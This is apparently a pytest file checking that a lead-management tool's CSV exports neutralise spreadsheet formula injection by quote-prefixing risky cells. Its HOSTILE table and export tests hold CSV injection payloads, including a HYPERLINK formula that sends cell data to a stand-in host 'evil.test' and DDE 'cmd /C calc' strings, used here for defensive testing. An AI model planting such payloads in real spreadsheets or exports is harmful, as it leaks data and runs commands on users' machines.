"""CSV exports never hand a spreadsheet a formula (issue 12, OWASP's CSV injection rule): a
text cell starting with `=`, `+`, `-`, `@`, tab or carriage return is prefixed with a single
quote, in `leadmill export` and `leadmill sql --format csv`; plain numbers and phone numbers
stay as they are. Both run as real processes on a real warehouse."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from storage.warehouse.csv_cells import spreadsheet_safe
from tests.cli.test_export import export, rows
from tests.cli.test_sql import leadmill_sql
from tests.storage.warehouse.test_warehouse import T0, Store

HOSTILE = {
    "=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")": "'=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0": "'+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0": "'-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0": "'@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1": "'\t=1+1",
    "\r=1+1": "'\r=1+1",
    "+1 (415) 555-0100": "+1 (415) 555-0100",
    "+14155550100": "+14155550100",
    "-12.5": "-12.5",
    "Ada = Lovelace": "Ada = Lovelace",
    "": "",
}


@pytest.mark.parametrize(("cell", "expected"), list(HOSTILE.items()))
def test_spreadsheet_safe(cell: str, expected: str) -> None:
    assert spreadsheet_safe(cell) == expected


def test_export_neutralises_formulas_in_every_text_column(tmp_path: Path) -> None:
    store = Store(tmp_path / "data")
    store.put("eve", T0, first_name="=HYPERLINK(\"http://evil.test\")", last_name="@SUM(A1)",
              company="-2+3+cmd|' /C calc'!A0", position="\t=1+1", phone="+14155550100",
              email="eve@example.com", score=0.5)
    store.sync()
    for layout, columns in [("leadmill", ("first_name", "last_name", "company", "position",
                                          "phone", "score")),
                            ("hubspot", ("First Name", "Last Name", "Company Name",
                                         "Job Title", "Phone Number", "Leadmill Score"))]:
        out = tmp_path / f"{layout}.csv"
        done = export(store, "--layout", layout, "--output", str(out))
        assert done.returncode == 0, done.stderr
        eve = rows(out)[0]
        assert [eve[c] for c in columns] == ["'=HYPERLINK(\"http://evil.test\")", "'@SUM(A1)",
                                             "'-2+3+cmd|' /C calc'!A0", "'\t=1+1",
                                             "+14155550100", "0.5"]


def test_sql_csv_neutralises_formulas(tmp_path: Path) -> None:
    store = Store(tmp_path / "data")
    store.put("ann", T0, score=0.9)
    store.sync()
    values = list(HOSTILE)
    select = ", ".join(f"$${value}$$ AS c{i}" for i, value in enumerate(values))
    out = tmp_path / "out.csv"  # a file: reading stdout as text would turn the CR into LF
    done = leadmill_sql(f"SELECT {select}, -5 AS n", "--data-dir", str(store.settings.data_dir),
                        "--format", "csv", "--output", str(out))
    assert done.returncode == 0, done.stderr
    with out.open(newline="") as handle:
        header, row = list(csv.reader(handle))
    assert row == [*HOSTILE.values(), "-5"]
